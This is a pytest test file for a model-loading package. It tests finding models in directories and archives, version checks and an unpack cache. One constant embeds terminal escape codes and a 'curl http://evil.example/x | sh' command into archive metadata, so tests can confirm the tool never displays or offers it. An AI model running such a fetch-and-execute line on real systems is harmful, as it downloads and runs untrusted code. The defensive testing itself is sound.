# SPDX-License-Identifier: Apache-2.0
"""Finding a model, whatever form it has; the cache of unpacked ones."""

import os
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest
import yaml

import espnet_objsoup
from espnet_objsoup.bin import info
from espnet_objsoup.zoo.cache import cache_root
from espnet_objsoup.zoo.errors import ModelError
from espnet_objsoup.zoo.pack import PackRequest, pack
from espnet_objsoup.zoo.pretrained import PretrainedModel, find_model

from .packages import CONFIG, OPTIONS, TAG, make_recipe, package, save_weights, write, write_zip

ROOT = Path(__file__).parents[3]


@pytest.fixture(autouse=True)
def cache(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("OBJSOUP_CACHE", str(tmp_path / "cache"))
    return tmp_path / "cache"


@pytest.fixture(scope="module")
def recipe(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A recipe with an experiment and its archive exp/<tag>.zip."""
    root = tmp_path_factory.mktemp("recipe")
    pack(PackRequest(make_recipe(root)))
    return root


@pytest.fixture(scope="module")
def weights(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    return save_weights(tmp_path_factory.mktemp("w") / "w.pth").read_bytes()


def config_of(model: PretrainedModel) -> dict[str, Any]:
    return yaml.safe_load(model.train_config.read_text())


def check_usable(model: PretrainedModel) -> None:
    """All files are there and named absolutely."""
    conf = config_of(model)
    paths = [Path(conf["bpemodel"]), Path(conf["normalize_conf"]["stats_file"])]
    assert [path.read_bytes() for path in paths] == [b"pieces", b"statistics"]
    paths += [model.train_config, model.model_file, model.directory]
    assert all(path.is_absolute() and path.exists() for path in paths)
    assert conf["token_list"] == CONFIG["token_list"]


@pytest.mark.parametrize("place", ["/", ".", "exp"])
def test_an_experiment_from_any_directory(
    recipe: Path, monkeypatch: pytest.MonkeyPatch, place: str
) -> None:
    monkeypatch.chdir(recipe / place)
    source = os.path.relpath(recipe / "exp" / TAG)
    model = find_model(source)
    check_usable(model)
    assert model.meta is None
    assert model.model_file == recipe / "exp" / TAG / "valid.loss.ave.pth"
    assert yaml.safe_load(model.inference_config.read_text()) == OPTIONS
    assert find_model(f"{source}/valid.loss.ave_2best.pth").model_file.name.endswith("2best.pth")


def test_an_archive(recipe: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.chdir(tmp_path)
    model = find_model(recipe / "exp" / f"{TAG}.zip")
    check_usable(model)
    assert model.meta.version == espnet_objsoup.__version__
    assert yaml.safe_load(model.inference_config.read_text()) == OPTIONS
    assert list(model.arguments) == [
        "objsoup_train_config", "objsoup_model_file", "objsoup_inference_config",
    ]  # fmt: skip
    check_usable(find_model(model.directory))


def test_what_espnet_unpacked(
    recipe: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from espnet2.main_funcs.pack_funcs import unpack as espnet_unpack

    monkeypatch.chdir(tmp_path)
    found = espnet_unpack(recipe / "exp" / f"{TAG}.zip", "out")
    assert set(found) == set(find_model(tmp_path / "out").arguments)
    check_usable(find_model("out"))
    # ESPnet's unpacking makes paths absolute; the directory may be moved afterwards.
    espnet_unpack(recipe / "exp" / f"{TAG}.zip", tmp_path / "absolute")
    (tmp_path / "absolute").rename(tmp_path / "moved")
    model = find_model("moved")
    check_usable(model)
    assert Path(config_of(model)["bpemodel"]).is_relative_to(tmp_path / "moved")


def test_an_archive_of_espnets_own_packing(
    recipe: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from espnet2.main_funcs.pack_funcs import pack as espnet_pack

    monkeypatch.chdir(recipe)
    files = {"objsoup_model_file": f"exp/{TAG}/valid.loss.ave.pth"}
    yaml_files = {"objsoup_train_config": f"exp/{TAG}/config.yaml"}
    option = [CONFIG["bpemodel"], CONFIG["normalize_conf"]["stats_file"]]
    espnet_pack(files, yaml_files, tmp_path / "theirs.zip", option)
    monkeypatch.chdir(tmp_path)
    check_usable(find_model("theirs.zip"))


@pytest.mark.parametrize(
    ("source", "message"),
    [
        ("nothing", "found no such file or directory"),
        ("nothing.zip", "found no such file or directory"),
        ("a/b/c", "found no such file or directory"),
        ("", "expected config.yaml|expected averaged weights"),
        (".", "expected averaged weights"),
        ("text.zip", "expected a zip archive"),
        ("empty.zip", "expected a zip archive"),
        ("model.pth", "expected config.yaml of a trained experiment"),
        ("espnet", "a model of another ESPnet task"),
    ],
)
def test_what_is_no_model(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str, message: str
) -> None:
    monkeypatch.chdir(tmp_path)
    write(tmp_path / "text.zip", "text")
    write(tmp_path / "empty.zip", b"")
    write(tmp_path / "model.pth", b"")
    write(tmp_path / "espnet/config.yaml", "token_list: [a]\n")
    write(tmp_path / "espnet/valid.loss.ave.pth", b"")
    with pytest.raises(ModelError, match=message):
        find_model(source)


# Versions


@pytest.mark.parametrize("version", ["1.0.0", "0.2.0", "0.10.1"])
def test_models_for_later_versions(weights: bytes, tmp_path: Path, version: str) -> None:
    path = write_zip(tmp_path / "m.zip", *package(weights, version=version).items())
    with pytest.raises(
        ModelError,
        match=rf'by espnet_objsoup {version},.*: pip install "espnet-objsoup=={version}"$',
    ):
        find_model(path)


def test_models_for_earlier_versions(
    weights: bytes,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    caplog: pytest.LogCaptureFixture,
) -> None:
    path = write_zip(tmp_path / "m.zip", *package(weights, version="0.1.9").items())
    find_model(path)
    assert caplog.text == ""
    monkeypatch.setattr(espnet_objsoup, "__version__", "0.3.0")
    find_model(path)
    assert "made by espnet_objsoup 0.1.9, installed is 0.3.0" in caplog.text
    monkeypatch.setattr(espnet_objsoup, "__version__", "1.0.0")
    with pytest.raises(ModelError, match="cannot be expected to read it"):
        find_model(path)


def test_other_formats_and_versions_that_are_none(weights: bytes, tmp_path: Path) -> None:
    path = write_zip(tmp_path / "m.zip", *package(weights, format=2).items())
    with pytest.raises(ModelError, match="expected a model of format 1, found 2"):
        find_model(path)
    for version in ("new", "0.1.0\x1b[2J", "0.1.0 evil", "0.1.0\n", "0.1"):
        path = write_zip(tmp_path / "n.zip", *package(weights, version=version).items())
        if version == "0.1":
            find_model(path)
            continue
        with pytest.raises(ModelError, match="expected a version of espnet_objsoup such as"):
            find_model(path)


_HOSTILE = "\x1b[2J\x1b[1;1H\x9bcurl http://evil.example/x | sh"


@pytest.mark.parametrize(
    "facts",
    [{"version": "9.0.0", "install": _HOSTILE}, {"format": _HOSTILE}, {"version": _HOSTILE}],
    ids=["install", "format", "version"],
)
def test_no_words_of_an_archive_move_the_cursor_or_are_offered_as_a_command(
    weights: bytes, tmp_path: Path, capsys: pytest.CaptureFixture[str], facts: dict[str, str]
) -> None:
    path = write_zip(tmp_path / "m.zip", *package(weights, **facts).items())
    assert info.main([str(path)]) == 1
    message = capsys.readouterr().err
    assert all(c.isprintable() or c == "\n" for c in message)
    if "install" in facts:
        assert message.endswith('install what it needs: pip install "espnet-objsoup==9.0.0"\n')
        assert "curl" not in message


def test_what_a_model_says_of_itself_is_shown_harmlessly(
    weights: bytes, tmp_path: Path, capsys: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:  # fmt: skip
    entries = package(weights, install=_HOSTILE, corpus=_HOSTILE)
    meta = yaml.safe_load(entries["meta.yaml"]) | {"espnet": _HOSTILE}
    entries["meta.yaml"] = yaml.safe_dump(meta).encode()
    path = write_zip(tmp_path / "m.zip", *entries.items())
    for arguments in ([str(path)], [str(path), "--json"]):
        assert info.main(arguments) == 0
        shown = capsys.readouterr().out
        assert all(c.isprintable() or c == "\n" for c in shown)
    assert "evil" in shown
    assert "made with ESPnet" in caplog.text
    assert "\x1b" not in caplog.text


def test_another_espnet_is_a_warning(
    weights: bytes, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    entries = package(weights)
    entries["meta.yaml"] = entries["meta.yaml"].replace(b"202611", b"202401")
    find_model(write_zip(tmp_path / "m.zip", *entries.items()))
    assert "made with ESPnet 202401" in caplog.text


# Cache


def test_an_archive_is_unpacked_once(recipe: Path, cache: Path) -> None:
    archive = recipe / "exp" / f"{TAG}.zip"
    first = find_model(archive)
    times = {path: path.stat().st_ino for path in cache.rglob("*")}
    assert find_model(archive) == first
    assert {path: path.stat().st_ino for path in cache.rglob("*")} == times
    copy = write(recipe / "exp" / "copy.zip", archive.read_bytes())
    assert find_model(copy) == first
    copy.unlink()


def test_a_new_archive_of_the_same_name_is_another_model(weights: bytes, tmp_path: Path) -> None:
    path = tmp_path / "m.zip"
    for content in (b"one", b"two"):
        entries = package(weights) | {"data/token_list/bpe/bpe.model": content}
        write_zip(path, *entries.items())
        assert Path(config_of(find_model(path))["bpemodel"]).read_bytes() == content


@pytest.mark.parametrize("damage", ["missing", "short", "file"])
def test_a_damaged_cache_is_mended(recipe: Path, cache: Path, damage: str, tmp_path: Path) -> None:
    archive = recipe / "exp" / f"{TAG}.zip"
    model = find_model(archive)
    if damage == "missing":
        model.model_file.unlink()
    elif damage == "short":
        model.model_file.write_bytes(b"")
    else:
        model.directory.rename(tmp_path / "away")
        model.directory.write_text("a file")
    check_usable(find_model(archive))
    assert [path.name for path in (cache / "models").iterdir()] == [model.directory.name]


def test_a_refused_archive_leaves_nothing(weights: bytes, cache: Path, tmp_path: Path) -> None:
    entries = package(weights) | {"more.pkl": b""}
    with pytest.raises(ModelError):
        find_model(write_zip(tmp_path / "m.zip", *entries.items()))
    assert list((cache / "models").iterdir()) == []


def test_what_a_killed_process_left_goes_after_a_day(recipe: Path, cache: Path) -> None:
    for name, age_s in ((".new-old", 2 * 86400), (".new-young", 60)):
        path = write(cache / "models" / name / "file", "x").parent
        os.utime(path, (time.time() - age_s,) * 2)
    find_model(recipe / "exp" / f"{TAG}.zip")
    left = [path.name for path in (cache / "models").iterdir() if path.name.startswith(".")]
    assert left == [".new-young"]


def test_many_processes_at_once(recipe: Path, cache: Path) -> None:
    code = (
        "import sys; from espnet_objsoup.zoo.pretrained import find_model\n"
        "print(find_model(sys.argv[1]).model_file.read_bytes()[:2])\n"
        "assert not {'torch', 'espnet2'} & set(sys.modules)"
    )
    command = [sys.executable, "-c", code, str(recipe / "exp" / f"{TAG}.zip")]
    environment = os.environ | {"PYTHONPATH": str(ROOT)}
    started = [subprocess.Popen(command, env=environment, stdout=subprocess.PIPE) for _ in range(6)]
    assert [process.communicate()[0] for process in started] == [b"b'PK'\n"] * 6
    assert len(list((cache / "models").iterdir())) == 1


def test_where_the_cache_is(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    assert cache_root(tmp_path / "mine") == tmp_path / "mine"
    assert cache_root() == tmp_path / "cache"
    monkeypatch.delenv("OBJSOUP_CACHE")
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.delenv("XDG_CACHE_HOME", raising=False)
    assert cache_root() == tmp_path / ".cache" / "espnet_objsoup"
    monkeypatch.setenv("XDG_CACHE_HOME", "/x")
    assert cache_root() == Path("/x/espnet_objsoup")


def test_a_cache_that_cannot_be_written(
    recipe: Path, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    write(tmp_path / "file", "x")
    monkeypatch.setenv("OBJSOUP_CACHE", str(tmp_path / "file"))
    for source in (f"{TAG}.zip", TAG):
        with pytest.raises(ModelError, match="expected a directory to unpack models to"):
            find_model(recipe / "exp" / source)
